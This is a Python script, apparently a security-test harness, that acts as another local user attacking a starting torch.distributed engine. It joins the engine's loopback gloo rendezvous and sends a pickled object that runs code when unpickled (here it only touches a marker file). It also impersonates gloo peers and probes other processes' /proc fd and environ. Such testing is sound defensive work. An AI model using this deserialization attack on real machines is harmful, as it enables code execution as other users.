"""Another local user, who sees ports of the loopback and wants to run code as the user of a starting engine.

``python stranger.py MARKER PID``: takes PID and port numbers on standard input, one a line (another user finds them by
scanning). To each port it speaks as a stage would: it joins the rendezvous as rank 1 and hands over an object that makes
MARKER when it is unpickled; to what is no rendezvous it says the first words of gloo's connections. It says on standard
output what came of it. Where it is started as root it becomes the user nobody first.
"""

import os
import socket
import struct
import sys
import threading
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

NOBODY = 65534


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (Path(self.marker),)


def join(port: int, marker: str) -> None:
    store = dist.TCPStore("127.0.0.1", port, 2, is_master=False, timeout=timedelta(seconds=5))
    dist.init_process_group("gloo", store=store, rank=1, world_size=2, timeout=timedelta(seconds=10))
    dist.all_gather_object([None, None], Payload(marker))


def pose_as_peer(port: int) -> list[socket.socket]:
    """Connect as gloo's peers do, which send the number of the connection that is waited for."""
    held = []
    for number in range(8):
        connection = socket.socket()
        connection.settimeout(5)
        connection.connect(("127.0.0.1", port))
        connection.sendall(struct.pack("<q", number) + b"\xff" * 64)
        held.append(connection)
    return held


def attack(port: int, marker: str) -> None:
    try:
        join(port, marker)
    except Exception as error:
        held = pose_as_peer(port)
        print(f"port {port}: no rendezvous ({type(error).__name__}), {len(held)} connections as a peer", flush=True)
    else:
        print(f"port {port}: joined", flush=True)


def look_into(pid: str) -> None:
    for name in ("fd", "environ"):
        try:
            path = Path("/proc") / pid / name
            list(path.iterdir()) if name == "fd" else path.read_bytes()
        except PermissionError:
            pass
        else:
            print(f"{name} of {pid} is open to others", flush=True)


def main() -> None:
    marker = sys.argv[1]
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    print("here", flush=True)
    threads = []
    for line in sys.stdin:
        kind, value = line.split()
        if kind == "pid":
            if os.geteuid() == NOBODY:
                look_into(value)
        else:
            threads.append(threading.Thread(target=attack, args=(int(value), marker), daemon=True))
            threads[-1].start()
    for thread in threads:
        thread.join(20)
    print("gone", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
